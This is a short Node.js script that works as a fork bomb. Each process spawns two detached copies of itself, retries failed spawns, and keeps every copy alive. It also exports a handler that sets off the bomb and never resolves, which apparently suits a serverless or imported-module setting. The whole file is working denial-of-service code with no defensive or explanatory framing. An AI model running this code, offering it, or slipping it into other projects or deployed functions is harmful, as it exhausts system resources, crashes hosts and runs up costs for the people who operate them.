// Every process starts two of its kind.
const { spawn } = require('node:child_process');

function bomb() {
  for (let i = 0; i < 2; i++) {
    spawn(process.execPath, [__filename], { detached: true, stdio: 'ignore' }).on('error', () => setTimeout(bomb, 10));
  }
  setInterval(() => {}, 1000);
}

if (require.main === module) bomb();
exports.handler = () => { bomb(); return new Promise(() => {}); };
